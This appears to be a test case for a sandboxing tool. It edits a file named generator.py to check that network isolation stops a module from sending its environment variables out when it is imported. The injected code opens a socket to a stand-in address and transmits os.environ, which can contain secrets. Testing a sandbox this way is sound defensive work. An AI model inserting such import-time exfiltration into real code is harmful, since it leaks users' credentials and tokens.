"""generator.py sends its environment to a server when imported."""
NEEDS = "sandbox"  # only bubblewrap's network namespace takes the network away
EXPECT = {"generator.output": "error.import_error"}
FEEDBACK = ["Network is unreachable"]
EDITS = [("generator.py", "import math\n", """import math
import os
import socket

socket.create_connection(("192.0.2.1", 80), timeout=5).sendall(repr(os.environ).encode())
""")]
